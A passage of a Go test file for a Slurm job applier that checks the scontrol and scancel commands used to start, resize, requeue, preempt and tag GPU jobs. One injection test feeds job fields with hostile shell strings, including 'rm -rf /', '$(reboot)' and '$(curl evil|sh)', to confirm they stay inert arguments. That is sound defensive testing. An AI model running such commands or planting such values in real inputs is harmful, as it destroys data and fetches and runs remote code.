package slurm

import (
	"context"
	"errors"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func running(id int, nodes ...string) Job {
	return Job{ID: id, State: StateRunning, NodeList: nodes, BatchHost: nodes[0], NodeCount: len(nodes), Requeue: true,
		AdminComment: "model_type=gpt2"}
}

func pendingHeld(id int) Job {
	return Job{ID: id, State: StatePending, Held: true, Reason: "job_requeued_in_held_state", Requeue: true,
		AdminComment: "model_type=gpt2"}
}

// requeued is pendingHeld once requeued: its restart count is 1.
func requeued(id int) Job {
	j := pendingHeld(id)
	j.RestartCount = 1
	return j
}

type applierFixture struct {
	runner  *fakeRunner
	cluster *fakeCluster
	clock   *fakeClock
	app     *Applier
}

func newApplierFixture(t *testing.T, jobs map[int][]Job, mod func(*ApplierConfig)) *applierFixture {
	t.Helper()
	f := &applierFixture{runner: &fakeRunner{}, cluster: &fakeCluster{jobs: jobs}, clock: newFakeClock()}
	cfg := ApplierConfig{
		Scontrol: "/usr/bin/scontrol", Scancel: "/usr/bin/scancel",
		Runner: f.runner, Cluster: f.cluster, Clock: f.clock, Logger: quiet,
		CheckpointTimeout: 30 * time.Second,
	}
	if mod != nil {
		mod(&cfg)
	}
	app, err := NewApplier(cfg)
	if err != nil {
		t.Fatal(err)
	}
	f.app = app
	return f
}

var planTag = &Tag{ModelType: "gpt2", Class: ClassGuaranteed, Plan: "dp8.tp1.pp1.mb1.a1.z0", Generation: 2}

const planTagAC = "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=guaranteed plan=dp8.tp1.pp1.mb1.a1.z0 gen=2"

func TestApplyStart(t *testing.T) {
	f := newApplierFixture(t, map[int][]Job{33: {pendingHeld(33)}}, nil)
	res := f.app.ApplyOne(context.Background(), Action{
		Kind: ActionStart, JobID: 33, Nodes: []string{"node3", "node4"},
		GPUsPerNode: 4, CPUsPerTask: 4, MemPerNodeMB: 16000, Tag: planTag,
	})
	if res.Err != nil {
		t.Fatalf("Err = %v", res.Err)
	}
	want := [][]string{
		{"/usr/bin/scontrol", "update", "JobId=33", "NumNodes=2-2", "NumTasks=2", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=8",
			"MinMemoryNode=16000", "Gres=gpu:4", "NodeList=node3,node4"},
		{"/usr/bin/scontrol", "update", "JobId=33", planTagAC + " rc=0"},
		{"/usr/bin/scontrol", "release", "33"},
	}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
	if res.After != nil {
		t.Error("After set on success")
	}
	if len(f.clock.Sleeps()) != 0 {
		t.Errorf("a first start must not wait: %v", f.clock.Sleeps())
	}
}

func TestApplyStartLetsSlurmPlace(t *testing.T) {
	for _, clear := range []bool{false, true} {
		f := newApplierFixture(t, map[int][]Job{33: {pendingHeld(33)}}, nil)
		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionStart, JobID: 33, NumNodes: 1, CPUsPerTask: 2, ClearNodes: clear})
		if res.Err != nil {
			t.Fatal(res.Err)
		}
		resize := []string{"/usr/bin/scontrol", "update", "JobId=33", "NumNodes=1-1", "NumTasks=1", "CPUsPerTask=2", "MinCPUsNode=2", "NumCPUs=2"}
		if clear {
			// An empty NodeList clears the list an earlier start set.
			resize = append(resize, "NodeList=")
		}
		want := [][]string{resize, {"/usr/bin/scontrol", "release", "33"}}
		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
			t.Errorf("ClearNodes %v: argv (-want +got):\n%s", clear, diff)
		}
	}
}

func TestApplyRejectsBeforeRunning(t *testing.T) {
	tests := map[string]struct {
		act     Action
		wantErr error
	}{
		"start without CPUs":     {Action{Kind: ActionStart, JobID: 5, NumNodes: 1}, ErrBadAction},
		"start without nodes":    {Action{Kind: ActionStart, JobID: 5, CPUsPerTask: 1}, ErrBadAction},
		"fewer than listed":      {Action{Kind: ActionStart, JobID: 5, NumNodes: 1, Nodes: []string{"a", "b"}, CPUsPerTask: 1}, ErrBadAction},
		"restart count differs":  {Action{Kind: ActionRestart, JobID: 5, NumNodes: 3, Nodes: []string{"a"}, CPUsPerTask: 1}, ErrBadAction},
		"duplicate nodes":        {Action{Kind: ActionStart, JobID: 5, Nodes: []string{"a", "a"}, CPUsPerTask: 1}, ErrBadAction},
		"node name with comma":   {Action{Kind: ActionStart, JobID: 5, Nodes: []string{"a,b"}, CPUsPerTask: 1}, ErrBadAction},
		"node name with space":   {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"a b"}}, ErrBadAction},
		"bad tag":                {Action{Kind: ActionAnnotate, JobID: 5, Tag: &Tag{Plan: "a;b"}}, ErrBadAction},
		"annotate without tag":   {Action{Kind: ActionAnnotate, JobID: 5}, ErrBadAction},
		"no job id":              {Action{Kind: ActionAnnotate, Tag: planTag}, ErrBadAction},
		"shrink to zero":         {Action{Kind: ActionShrink, JobID: 5}, ErrBadAction},
		"unknown kind":           {Action{Kind: "grow", JobID: 5}, ErrBadAction},
		"start a running job":    {Action{Kind: ActionStart, JobID: 5, NumNodes: 1, CPUsPerTask: 1}, ErrJobState},
		"shrink a pending job":   {Action{Kind: ActionShrink, JobID: 6, NumNodes: 1}, ErrJobState},
		"drop the batch host":    {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"node2"}}, ErrBadAction},
		"keep a foreign node":    {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"node1", "node9"}}, ErrBadAction},
		"shrink that grows":      {Action{Kind: ActionShrink, JobID: 5, NumNodes: 3}, ErrBadAction},
		"restart a no-requeue":   {Action{Kind: ActionRestart, JobID: 7, NumNodes: 1, CPUsPerTask: 1}, ErrJobState},
		"preempt a pending job":  {Action{Kind: ActionPreempt, JobID: 8}, ErrJobState},
		"negative time limit":    {Action{Kind: ActionStart, JobID: 6, NumNodes: 1, CPUsPerTask: 1, TimeLimit: -time.Minute}, ErrBadAction},
		"negative memory floor":  {Action{Kind: ActionStart, JobID: 6, NumNodes: 1, CPUsPerTask: 1, MemPerGPUFloorMB: -1}, ErrBadAction},
		"no time limit":          {Action{Kind: ActionTimeLimit, JobID: 5}, ErrBadAction},
		"time limit of an ended": {Action{Kind: ActionTimeLimit, JobID: 9, TimeLimit: time.Hour}, ErrJobState},
		"run counted at a start": {Action{Kind: ActionStart, JobID: 6, NumNodes: 1, CPUsPerTask: 1, Tag: planTag, RanAt: time.Unix(1, 0)}, ErrBadAction},
		"run counted, no tag":    {Action{Kind: ActionPreempt, JobID: 5, RanAt: time.Unix(1, 0)}, ErrBadAction},
		"ran= not seconds":       {Action{Kind: ActionPreempt, JobID: 5, Tag: &Tag{Extra: map[string]string{TagRan: "1.5"}}, RanAt: time.Unix(1, 0)}, ErrBadAction},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			noRequeue := running(7, "node1")
			noRequeue.Requeue = false
			notHeld := pendingHeld(8)
			notHeld.Held = false
			ended := running(9, "node1")
			ended.State = StateCompleted
			f := newApplierFixture(t, map[int][]Job{
				5: {running(5, "node1", "node2", "node3")},
				6: {pendingHeld(6)},
				7: {noRequeue},
				8: {notHeld},
				9: {ended},
			}, nil)
			res := f.app.ApplyOne(context.Background(), tc.act)
			if !errors.Is(res.Err, tc.wantErr) {
				t.Fatalf("Err = %v, want %v", res.Err, tc.wantErr)
			}
			if calls := f.runner.Calls(); len(calls) != 0 {
				t.Errorf("commands ran: %v", calls)
			}
		})
	}
	// A bad tag is both: the caller may tell it from other bad actions.
	f := newApplierFixture(t, nil, nil)
	if res := f.app.ApplyOne(context.Background(), tests["bad tag"].act); !errors.Is(res.Err, ErrTag) {
		t.Errorf("bad tag: Err = %v, want ErrTag too", res.Err)
	}
}

func TestApplyShrink(t *testing.T) {
	tests := map[string]struct {
		act  Action
		want []string
	}{
		"by count": {Action{Kind: ActionShrink, JobID: 5, NumNodes: 1},
			[]string{"/usr/bin/scontrol", "update", "JobId=5", "NumNodes=1"}},
		"by list keeping the batch host": {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"node1", "node3"}},
			[]string{"/usr/bin/scontrol", "update", "JobId=5", "NodeList=node1,node3"}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			f := newApplierFixture(t, map[int][]Job{5: {running(5, "node1", "node2", "node3")}}, nil)
			res := f.app.ApplyOne(context.Background(), tc.act)
			if res.Err != nil {
				t.Fatal(res.Err)
			}
			if diff := cmp.Diff([][]string{tc.want}, f.runner.Calls()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
		})
	}
}

func restartAction() Action {
	return Action{Kind: ActionRestart, JobID: 32, Nodes: []string{"node1", "node2"}, GPUsPerNode: 8, CPUsPerTask: 16,
		MemPerNodeMB: 64000, Tag: planTag}
}

// showMail is the read of a job's mail types before rubick requeues it.
var showMail = []string{"/usr/bin/scontrol", "show", "job", "-o", "32"}

// restartArgv is a restart's commands for a job whose restart count is rc
// once requeued: its mail types read (it has none), the requeue
// acknowledged in its tag at once, then the resize, the new tag, the start
// time and the release.
func restartArgv(rc string) [][]string {
	return [][]string{
		showMail,
		{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
		{"/usr/bin/scontrol", "requeuehold", "32"},
		{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 rc=" + rc},
		{"/usr/bin/scontrol", "update", "JobId=32", "NumNodes=2-2", "NumTasks=2", "CPUsPerTask=16", "MinCPUsNode=16", "NumCPUs=32",
			"MinMemoryNode=64000", "Gres=gpu:8", "NodeList=node1,node2"},
		{"/usr/bin/scontrol", "update", "JobId=32", planTagAC + " rc=" + rc},
		{"/usr/bin/scontrol", "update", "JobId=32", "StartTime=now"},
		{"/usr/bin/scontrol", "release", "32"},
	}
}

func TestApplyRestart(t *testing.T) {
	completing := requeued(32)
	completing.StateFlags = []string{StateCompleting}
	tests := map[string]struct {
		states     []Job
		wantSleeps []time.Duration
	}{
		// checkpoint wait, then the release delay measured from the requeue
		"pending at once": {[]Job{running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)},
			[]time.Duration{30 * time.Second, 2 * time.Second}},
		// two polls of 1 s already cover the 2 s release delay
		"completing first": {[]Job{running(32, "node2", "node3"), running(32, "node2", "node3"), completing, completing, requeued(32)},
			[]time.Duration{30 * time.Second, time.Second, time.Second}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			f := newApplierFixture(t, map[int][]Job{32: tc.states}, nil)
			res := f.app.ApplyOne(context.Background(), restartAction())
			if res.Err != nil {
				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
			}
			if diff := cmp.Diff(restartArgv("1"), f.runner.Calls()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.wantSleeps, f.clock.Sleeps()); diff != "" {
				t.Errorf("sleeps (-want +got):\n%s", diff)
			}
		})
	}
}

// The user holds the job while it waits, requeued, for its release
// (job_submit.lua writes rubick:hold), or an administrator does (its
// rubick-admin-hold field): rubickd's release would take the mark out, so
// the restart leaves the job held, sized, for them.
func TestApplyRestartLeavesHold(t *testing.T) {
	for name, hold := range map[string]func(*Job){
		"user":          func(j *Job) { j.Comment = "rubick:hold" },
		"administrator": func(j *Job) { j.AdminComment += ";" + AdminHoldField },
	} {
		t.Run(name, func(t *testing.T) {
			held := requeued(32)
			hold(&held)
			f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32), requeued(32), held}}, nil)
			res := f.app.ApplyOne(context.Background(), restartAction())
			if res.Err != nil {
				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
			}
			want := restartArgv("1")
			if diff := cmp.Diff(want[:len(want)-1], f.runner.Calls()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
			if last := res.Steps[len(res.Steps)-1]; !strings.Contains(last.Note, "held by its user or an administrator") {
				t.Errorf("last step %+v; want it to say someone holds the job", last)
			}
		})
	}
}

// A start or release of a job its user or an administrator held after the
// cycle read it changes nothing: root's release would end their hold.
func TestApplyStartLeavesHold(t *testing.T) {
	for name, hold := range map[string]func(*Job){
		"user":                  func(j *Job) { j.Comment = "my note rubick:hold" },
		"administrator":         func(j *Job) { j.AdminComment += ";" + AdminHoldField },
		"administrator (Slurm)": func(j *Job) { j.Reason = "JobHeldAdmin" },
	} {
		for _, kind := range []ActionKind{ActionStart, ActionRelease} {
			t.Run(name+"/"+string(kind), func(t *testing.T) {
				job := pendingHeld(33)
				hold(&job)
				f := newApplierFixture(t, map[int][]Job{33: {job}}, nil)
				res := f.app.ApplyOne(context.Background(), Action{Kind: kind, JobID: 33, Nodes: []string{"node2"}, GPUsPerNode: 2, CPUsPerTask: 4})
				if !errors.Is(res.Err, ErrJobState) || !strings.Contains(res.Err.Error(), "held by") {
					t.Errorf("Err = %v, want ErrJobState saying who holds it", res.Err)
				}
				if calls := f.runner.Calls(); len(calls) > 0 {
					t.Errorf("ran %q, want nothing", calls)
				}
			})
		}
	}
}

// A hold its user or an administrator puts on the job while a start
// resizes and tags it stays: the start reads the job again before its
// release, and leaves it held.
func TestApplyStartLeavesHoldSinceItsRead(t *testing.T) {
	for name, hold := range map[string]func(*Job){
		"user":          func(j *Job) { j.Comment = "rubick:hold" },
		"administrator": func(j *Job) { j.AdminComment += ";" + AdminHoldField },
	} {
		t.Run(name, func(t *testing.T) {
			held := pendingHeld(33)
			hold(&held)
			f := newApplierFixture(t, map[int][]Job{33: {pendingHeld(33), held}}, nil)
			res := f.app.ApplyOne(context.Background(), Action{Kind: ActionStart, JobID: 33, Nodes: []string{"node2"}, GPUsPerNode: 2, CPUsPerTask: 4, Tag: planTag})
			if res.Err != nil {
				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
			}
			for _, c := range f.runner.Calls() {
				if slices.Contains(c, "release") {
					t.Errorf("%q ran on a job held since the start read it", c)
				}
			}
		})
	}
}

func TestApplyRestartResumesHalfDoneRestart(t *testing.T) {
	// A previous attempt requeued the job and stopped: no second signal or
	// requeue, but StartTime=now and the release still happen.
	f := newApplierFixture(t, map[int][]Job{32: {requeued(32)}}, nil)
	res := f.app.ApplyOne(context.Background(), restartAction())
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	if res.MayHaveRequeued() {
		t.Error("MayHaveRequeued() = true; this attempt requeued nothing")
	}
	if diff := cmp.Diff(restartArgv("1")[3:], f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
}

// A restart acknowledges its requeue in the job's own tag with the run
// time its tag counts, the run the requeue ended included: should the
// restart stop after that (here its resize is refused; or rubickd is
// killed), the tag that counts the requeue (rc=) still counts the run.
// Before, it kept the job's old ran=, and the run was lost (seen in an
// e2e run with rubickd killed between the two).
func TestApplyRestartAckCarriesRunTime(t *testing.T) {
	act := restartAction()
	tag := *act.Tag
	tag.Extra = map[string]string{TagRan: "600"}
	act.Tag = &tag
	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32), requeued(32), requeued(32)}}, nil)
	f.runner.failAt = map[int]string{5: "scontrol: error: Node count specification invalid"}
	if res := f.app.ApplyOne(context.Background(), act); res.Err == nil {
		t.Fatal("restart with its resize refused succeeded")
	}
	calls := f.runner.Calls()
	want := []string{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 ran=600 rc=1"}
	if len(calls) < 4 {
		t.Fatalf("calls %q, want the requeue acknowledged", calls)
	}
	if diff := cmp.Diff(want, calls[3]); diff != "" {
		t.Errorf("acknowledgement argv (-want +got):\n%s", diff)
	}
}

// A preemption's or restart's requeue counts the job's run from when its
// tag's ran= was counted (the cycle that decided it) to the requeue: the
// checkpoint wait, here 25 s, counts towards the job's time limit and
// restart cost, once, in every tag written after the requeue. Before, it
// counted nowhere.
func TestApplyRequeueCountsCheckpointWait(t *testing.T) {
	const wait = 25 * time.Second
	tag := Tag{ModelType: "gpt2", Class: ClassBestEffort, Plan: "dp8.tp1.pp1.mb1.a1.z0", Generation: 1, Extra: map[string]string{TagRan: "95"}}
	for name, tc := range map[string]struct {
		act      Action
		jobs     []Job
		want     [][]string // the tag writes
		recorded []string   // ran= of the tag BeforeRequeue gets, if called
		at       time.Duration
		ranAt    bool
	}{
		"preempt": {
			act:   Action{Kind: ActionPreempt, JobID: 32, Tag: &tag},
			jobs:  []Job{running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)},
			ranAt: true, at: -3 * time.Second, recorded: []string{"123"},
			want: [][]string{{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=123 rc=1"}},
		},
		"preempt without RanAt": {
			act:      Action{Kind: ActionPreempt, JobID: 32, Tag: &tag},
			jobs:     []Job{running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)},
			recorded: []string{"95"},
			want:     [][]string{{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=95 rc=1"}},
		},
		"restart": {
			act:   Action{Kind: ActionRestart, JobID: 32, Nodes: []string{"node1", "node2"}, GPUsPerNode: 8, CPUsPerTask: 16, Tag: &tag},
			jobs:  []Job{running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32), requeued(32), requeued(32)},
			ranAt: true, recorded: []string{"120"},
			want: [][]string{
				{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 ran=120 rc=1"},
				{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=120 rc=1"},
			},
		},
		"job requeued itself": {
			// Found pending and held after the wait: counted to then, with
			// no requeue of the Applier's to record.
			act:   Action{Kind: ActionPreempt, JobID: 32, Tag: &tag},
			jobs:  []Job{running(32, "node2", "node3"), requeued(32), requeued(32)},
			ranAt: true,
			want:  [][]string{{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=120 rc=1"}},
		},
		"requeued by an earlier attempt": {
			// When that requeue was is not known: nothing is added.
			act:   Action{Kind: ActionPreempt, JobID: 32, Tag: &tag},
			jobs:  []Job{requeued(32), requeued(32)},
			ranAt: true,
			want:  [][]string{{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=95 rc=1"}},
		},
	} {
		t.Run(name, func(t *testing.T) {
			var clock *fakeClock
			f := newApplierFixture(t, map[int][]Job{32: tc.jobs}, func(c *ApplierConfig) {
				c.WaitCheckpoint = func(ctx context.Context, j Job) error { return clock.Sleep(ctx, wait) }
			})
			clock = f.clock
			act := tc.act
			if tc.ranAt {
				act.RanAt = f.clock.Now().Add(tc.at)
			}
			var recorded []string // the tags BeforeRequeue is given
			act.BeforeRequeue = func(_ context.Context, _ int, tag *Tag) error {
				recorded = append(recorded, tag.Extra[TagRan])
				return nil
			}
			if res := f.app.ApplyOne(context.Background(), act); res.Err != nil {
				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
			}
			// What a crash after the requeue leaves to acknowledge it in.
			if diff := cmp.Diff(tc.recorded, recorded); diff != "" {
				t.Errorf("ran= of the tag BeforeRequeue records (-want +got):\n%s", diff)
			}
			var got [][]string
			for _, c := range f.runner.Calls() {
				if len(c) == 4 && strings.HasPrefix(c[3], "AdminComment=") {
					got = append(got, c)
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("tag writes (-want +got):\n%s", diff)
			}
			if tag.Extra[TagRan] != "95" {
				t.Errorf("the caller's tag changed: ran=%s", tag.Extra[TagRan])
			}
		})
	}
}

func TestApplyRestartFailureRereadsJob(t *testing.T) {
	half := pendingHeld(32)
	half.NodeList = nil
	half.GPUsPerNode = 4 // what Slurm says after the half-applied update
	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32), requeued(32), half}}, nil)
	f.runner.failAt = map[int]string{5: "scontrol: error: Node count specification invalid"}
	res := f.app.ApplyOne(context.Background(), restartAction())

	var ce *CommandError
	if !errors.As(res.Err, &ce) {
		t.Fatalf("Err = %v, want *CommandError", res.Err)
	}
	if diff := cmp.Diff(restartArgv("1")[4], ce.Argv); diff != "" {
		t.Errorf("error argv (-want +got):\n%s", diff)
	}
	if !strings.Contains(res.Err.Error(), "Node count specification invalid") || !strings.Contains(res.Err.Error(), "NumNodes=2-2") {
		t.Errorf("error %q lacks stderr or argv", res.Err)
	}
	if got := len(f.runner.Calls()); got != 5 {
		t.Errorf("%d commands ran, want 5 (nothing after the failure)", got)
	}
	if res.After == nil || res.After.GPUsPerNode != 4 {
		t.Errorf("After = %+v, want the re-read job", res.After)
	}
	if !res.MayHaveRequeued() {
		t.Error("MayHaveRequeued() = false; the requeuehold ran")
	}
	last := res.Steps[len(res.Steps)-1]
	if last.Name != "resize" || last.Err == nil {
		t.Errorf("last step = %+v", last)
	}
}

func TestApplyRestartPendingTimeout(t *testing.T) {
	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, func(c *ApplierConfig) {
		c.PendingTimeout = 5 * time.Second
	})
	res := f.app.ApplyOne(context.Background(), restartAction())
	if !errors.Is(res.Err, ErrJobState) {
		t.Fatalf("Err = %v, want ErrJobState", res.Err)
	}
	if got := len(f.runner.Calls()); got != 4 {
		t.Errorf("%d commands, want the mail read, signal, requeuehold and its acknowledgement only", got)
	}
	if res.After == nil || res.After.State != StateRunning {
		t.Errorf("After = %+v", res.After)
	}
}

func TestApplyCheckpointWait(t *testing.T) {
	t.Run("injected waiter", func(t *testing.T) {
		var waited Job
		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)}}, func(c *ApplierConfig) {
			c.WaitCheckpoint = func(ctx context.Context, j Job) error { waited = j; return nil }
			c.Signal = "TERM"
		})
		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
		if res.Err != nil {
			t.Fatal(res.Err)
		}
		if waited.ID != 32 {
			t.Errorf("waiter got job %d", waited.ID)
		}
		want := [][]string{
			showMail,
			{"/usr/bin/scancel", "--signal=TERM", "--batch", "32"},
			{"/usr/bin/scontrol", "requeuehold", "32"},
			// Without a tag of its own, the job's tag acknowledges the requeue.
			{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 rc=1"},
		}
		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
			t.Errorf("argv (-want +got):\n%s", diff)
		}
	})
	t.Run("tag written after the requeue", func(t *testing.T) {
		// The run time so far goes into the tag only once the job is
		// requeued: written earlier, a failed requeue would leave a running
		// job whose tag counts its run twice.
		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)}}, func(c *ApplierConfig) {
			c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
		})
		tag := Tag{ModelType: "gpt2", Class: ClassBestEffort, Plan: "dp8.tp1.pp1.mb1.a1.z0", Generation: 1, Extra: map[string]string{"ran": "95"}}
		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32, Tag: &tag})
		if res.Err != nil {
			t.Fatal(res.Err)
		}
		want := [][]string{
			showMail,
			{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
			{"/usr/bin/scontrol", "requeuehold", "32"},
			{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=95 rc=1"},
		}
		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
			t.Errorf("argv (-want +got):\n%s", diff)
		}
	})
	t.Run("restart count not shown yet", func(t *testing.T) {
		// Read back before Slurm counts the requeue, the job still says 0:
		// the tag says 1 all the same, or the job would look requeued by
		// someone else once Slurm does.
		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, func(c *ApplierConfig) {
			c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
		})
		if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32}); res.Err != nil {
			t.Fatal(res.Err)
		}
		calls := f.runner.Calls()
		if got := calls[len(calls)-1]; !slices.Contains(got, "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 rc=1") {
			t.Errorf("last call %q; want the tag with rc=1", got)
		}
	})
	t.Run("job requeued itself", func(t *testing.T) {
		// rubick-srun requeues the job held after the checkpoint: no second
		// requeuehold, which Slurm would refuse on a pending job.
		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), requeued(32)}}, func(c *ApplierConfig) {
			c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
		})
		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
		if res.Err != nil {
			t.Fatal(res.Err)
		}
		want := [][]string{showMail, {"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
			{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 rc=1"}}
		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
			t.Errorf("argv (-want +got):\n%s", diff)
		}
	})
	for _, state := range []string{StateCancelled, StateTimeout, StateDeadline, StatePreempted} {
		t.Run("job "+state+" during the wait", func(t *testing.T) {
			// requeuehold brings an ended job back pending and held: one
			// its user cancelled must stay cancelled.
			ended := running(32, "node2", "node3")
			ended.State = state
			f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), ended}}, func(c *ApplierConfig) {
				c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
			})
			res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
			if !errors.Is(res.Err, ErrJobState) || !strings.Contains(res.Err.Error(), state) {
				t.Errorf("Err = %v, want ErrJobState naming %s", res.Err, state)
			}
			want := [][]string{showMail, {"/usr/bin/scancel", "--signal=USR1", "--batch", "32"}}
			if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
		})
	}
	t.Run("job failed on the signal", func(t *testing.T) {
		// A batch script that does not catch the signal dies of it: FAILED,
		// and requeued as planned.
		failed := running(32, "node2", "node3")
		failed.State = StateFailed
		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), failed, requeued(32)}}, func(c *ApplierConfig) {
			c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
		})
		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
		if res.Err != nil {
			t.Fatal(res.Err)
		}
		if calls := f.runner.Calls(); len(calls) < 3 || !slices.Equal(calls[2], []string{"/usr/bin/scontrol", "requeuehold", "32"}) {
			t.Errorf("calls %q; want the requeuehold third", calls)
		}
	})
	t.Run("bounded", func(t *testing.T) {
		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, func(c *ApplierConfig) {
			c.CheckpointTimeout = 20 * time.Millisecond
			c.WaitCheckpoint = func(ctx context.Context, _ Job) error { <-ctx.Done(); return ctx.Err() }
		})
		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
		if res.Err != nil {
			t.Fatal(res.Err)
		}
		if len(f.runner.Calls()) != 4 || !strings.Contains(res.Steps[3].Note, "requeueing anyway") {
			t.Errorf("steps %+v", res.Steps)
		}
	})
	t.Run("waiter error stops", func(t *testing.T) {
		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, func(c *ApplierConfig) {
			c.WaitCheckpoint = func(context.Context, Job) error { return errors.New("job exited") }
		})
		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
		if res.Err == nil || len(f.runner.Calls()) != 2 {
			t.Errorf("Err = %v, calls %v", res.Err, f.runner.Calls())
		}
	})
}

func TestApplyAnnotateShellTextIsOneArgument(t *testing.T) {
	nasty := Job{ID: 9, Name: "x; rm -rf / #", State: StateRunning, NodeList: []string{"node1"}, BatchHost: "node1",
		Comment: "$(reboot)", AdminComment: "note `id`; rm -rf /;$(curl evil|sh)"}
	f := newApplierFixture(t, map[int][]Job{9: {nasty}}, nil)
	tag := &Tag{ModelType: "gpt2", Generation: 1}
	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 9, Tag: tag})
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{{"/usr/bin/scontrol", "update", "JobId=9",
		"AdminComment=note `id`; rm -rf /;$(curl evil|sh);rubick:v1 model=gpt2 gen=1 rc=0"}}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
}

// An action with a tag on a job whose tag a newer rubick wrote runs no
// command: the tag is not this rubick's to write over, and a start or
// restart that stopped at the tag would leave the job half changed.
func TestApplyLeavesNewerTag(t *testing.T) {
	for name, act := range map[string]Action{
		"annotate":   {Kind: ActionAnnotate, JobID: 5, Tag: planTag},
